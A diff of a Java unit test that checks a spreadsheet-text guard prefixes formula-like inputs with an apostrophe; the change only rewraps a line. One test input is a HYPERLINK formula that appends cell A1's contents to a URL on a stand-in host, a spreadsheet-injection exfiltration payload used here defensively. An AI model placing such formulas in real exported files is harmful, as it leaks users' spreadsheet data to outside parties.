@@ -29,7 +29,8 @@ class SpreadsheetTextTest {
     private static final String LINK = "=HYPERLINK(\"http://example.invalid/?x=\"&A1;\"klik\")";
 
     @ParameterizedTest
-    @ValueSource(strings = { LINK, "=1+1", "-Samen Sterk", "@Jongeren", "+31 6 12345678", "\ttab", "\rreturn", "-", "--1",
+    @ValueSource(strings = { LINK, "=1+1", "-Samen Sterk", "@Jongeren", "+31 6 12345678", "\ttab", "\rreturn", "-",
+            "--1",
         "-1+2", "=", "+1e", "\uFF1D1+1", "'=1+1", "''-a", "-1.2;3", "@1" })
     void isNoFormulaAndComesBackTheSame(String text) {
         assertEquals("'" + text, SpreadsheetText.guarded(text));
